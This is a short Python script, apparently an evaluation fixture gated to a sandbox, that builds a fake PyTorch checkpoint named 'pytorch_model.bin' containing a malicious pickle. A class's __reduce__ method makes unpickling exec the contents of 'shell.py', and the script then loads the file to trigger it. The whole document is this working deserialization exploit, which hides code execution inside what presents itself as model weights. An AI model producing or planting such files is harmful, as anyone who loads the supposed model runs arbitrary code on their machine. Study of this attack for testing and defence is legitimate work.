"""Makes the file, then does what an application does."""

import os
import pickle
import zipfile

if not os.path.exists("/.sandbox"):
    raise SystemExit("runs in the sandbox only: evals/README.md")


class Weights:
    def __reduce__(self) -> tuple[object, ...]:
        with open("shell.py") as file:
            return exec, (file.read(), {})


with zipfile.ZipFile("pytorch_model.bin", "w") as archive:
    archive.writestr("archive/data.pkl", pickle.dumps({"layer": Weights()}, protocol=2))
with zipfile.ZipFile("pytorch_model.bin") as archive, archive.open("archive/data.pkl") as file:
    pickle.load(file)
